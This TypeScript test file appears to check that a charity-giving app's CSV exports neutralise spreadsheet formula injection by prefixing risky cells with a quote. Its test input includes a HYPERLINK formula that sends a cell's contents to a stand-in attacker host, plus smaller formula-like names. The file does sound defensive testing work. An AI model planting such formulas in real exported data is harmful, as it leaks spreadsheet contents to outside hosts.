import { parse } from 'csv-parse/sync';
import { eq } from 'drizzle-orm';
import { beforeAll, describe, expect, it } from 'vitest';
import { businesses, users } from '../db/schema.js';
import { isoDay } from '../lib/periods.js';
import {
  fundOrganisation,
  giveToProject,
  makeDonor,
  makeGivingSetUp,
  type Person,
} from '../testing/factories.js';
import { useTestApp } from '../testing/helpers.js';
import { addBusinessMember, createOrganisation } from '../testing/organisations.js';

/**
 * Every CSV the app writes, with names and titles a spreadsheet would run as formulas: each such
 * cell must arrive as text (a single quote before it), the amounts as numbers (decision 035).
 */

const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
const clock = new Date('2026-03-10T10:00:00Z');
const day = (offset: number) => isoDay(new Date(clock.getTime() + offset * 86_400_000));

const t = useTestApp({}, { now: () => clock });
let platform: Person;
let charityAdmin: Person;
let charityId: number;
let projectId: number;

/** The cells of a CSV answer, header first. */
function cells(body: string): string[][] {
  return parse(body, { relax_column_count: true }) as string[][];
}

/** No cell starts like a formula, unless it is a number (a refund's "-12.50"). */
function expectNoFormula(rows: string[][]) {
  for (const cell of rows.flat()) {
    if (/^-\d+(\.\d+)?$/.test(cell)) continue;
    expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  }
}

beforeAll(async () => {
  ({
    platform,
    charityId,
    projectId,
    admin: charityAdmin,
  } = await makeGivingSetUp(t, 'Formula Trust', {
    title: FORMULA,
    fields: { description: 'A project with a dangerous title.', end_date: day(30) },
  }));
});

describe('CSV exports neutralise cells a spreadsheet would run', () => {
  it("the Gift Aid claim writes the donor's name as text and the amount as a number", async () => {
    const donor = await makeDonor(t, 50_000);
    const declared = await t.request('POST', '/api/user/gift_aid_declaration', {
      token: donor.token,
      body: {
        title: '@Dr',
        first_name: FORMULA,
        last_name: '+44 Smith',
        house: '-12',
        address: '12 Mill Lane, York',
        post_code: 'YO1 7HH',
        charity_id: charityId,
        confirm: true,
      },
    });
    expect(declared.statusCode).toBe(201);
    const gift = await t.request('POST', `/api/user/donate/project/${projectId}`, {
      token: donor.token,
      body: { type: 2, amount: 10_000, gift_aid: true },
    });
    expect(gift.statusCode).toBe(201);
    const claim = await t.request('POST', `/api/charity/${charityId}/gift_aid/claims`, {
      token: charityAdmin.token,
    });
    expect(claim.statusCode).toBe(201);
    const csv = await t.request(
      'GET',
      `/api/charity/${charityId}/gift_aid/claims/${claim.json().claim.id}/csv`,
      { token: charityAdmin.token },
    );
    expect(csv.statusCode).toBe(200);
    const rows = cells(csv.body);
    expect(rows[1]).toEqual([
      `'@Dr`,
      `'${FORMULA}`,
      `'+44 Smith`,
      `'-12`,
      'YO1 7HH',
      '',
      '',
      '10/03/26',
      '100.00',
    ]);
    expectNoFormula(rows);
  });

  it("the giving statement writes the project's title as text", async () => {
    const donor = await makeDonor(t, 20_000);
    await giveToProject(t, donor, projectId, 7_000);
    const csv = await t.request('GET', `/api/user/giving_statement/${day(-1)}/${day(1)}?format=csv`, {
      token: donor.token,
    });
    expect(csv.statusCode).toBe(200);
    const rows = cells(csv.body);
    const header = rows[0] ?? [];
    const line = rows[1] ?? [];
    expect(line[header.indexOf('to')]).toBe(`'${FORMULA} (Formula Trust)`);
    expect(line[header.indexOf('amount')]).toBe('70.00');
    expectNoFormula(rows);
  });

  it("the organisation's donations write its name, the project and who asked as text", async () => {
    const org = await createOrganisation(t, platform.token, 'Formula Ltd');
    await t.ctx.database.db.update(businesses).set({ name: '-Formula Ltd' }).where(eq(businesses.id, org.id));
    await t.ctx.database.db
      .update(users)
      .set({ firstName: '@SUM(1+1)', lastName: 'Owner' })
      .where(eq(users.id, org.owner.id));
    // Someone other than the person asking can sign it off (decision 033).
    await addBusinessMember(t, org.id, 2, new Date(), { signoff: true });
    await fundOrganisation(t, platform, org.id, 50_000, 'Budget');
    const gift = await t.request('POST', `/api/business/${org.id}/donate/project/${projectId}`, {
      token: org.owner.token,
      body: { type: 2, amount: 4_000 },
    });
    expect(gift.statusCode).toBe(201);
    const csv = await t.request('GET', `/api/business/donations_csv/${org.id}`, { token: org.owner.token });
    expect(csv.statusCode).toBe(200);
    const rows = cells(csv.body);
    const header = rows[0] ?? [];
    const line = rows[1] ?? [];
    expect(line[header.indexOf('organisation')]).toBe(`'-Formula Ltd`);
    expect(line[header.indexOf('project')]).toBe(`'${FORMULA}`);
    expect(line[header.indexOf('requested_by')]).toBe(`'@SUM(1+1) Owner`);
    expect(line[header.indexOf('amount')]).toBe('40.00');
    expectNoFormula(rows);
  });

  it("the wallet statement writes a deposit's reason as text and money out as a negative number", async () => {
    const org = await createOrganisation(t, platform.token, 'Transfer Group');
    const branch = await t.request('POST', '/api/organisation/sub_business', {
      token: org.owner.token,
      body: { parent_id: org.id, name: 'Transfer Branch' },
    });
    expect(branch.statusCode).toBe(201);
    await fundOrganisation(t, platform, org.id, 50_000, FORMULA);
    const moved = await t.request('POST', '/api/organisation/transfer_funds', {
      token: org.owner.token,
      body: {
        from_business_id: org.id,
        to_business_id: branch.json().id,
        amount: 1_250,
        description: 'Spring budget',
      },
    });
    expect(moved.statusCode).toBe(200);
    const csv = await t.request('GET', `/api/business/${org.id}/statement/${day(0)}/${day(0)}`, {
      token: org.owner.token,
    });
    expect(csv.statusCode).toBe(200);
    const rows = cells(csv.body);
    // The reason is written after the app's own words, so it is never the start of a cell.
    expect(rows.find((row) => row[1] === `Deposit recorded by Kindred: ${FORMULA}`)?.[4]).toBe('500.00');
    expect(rows.find((row) => row[1] === 'Moved to Transfer Branch')?.[4]).toBe('-12.50');
    expectNoFormula(rows);
  });
});
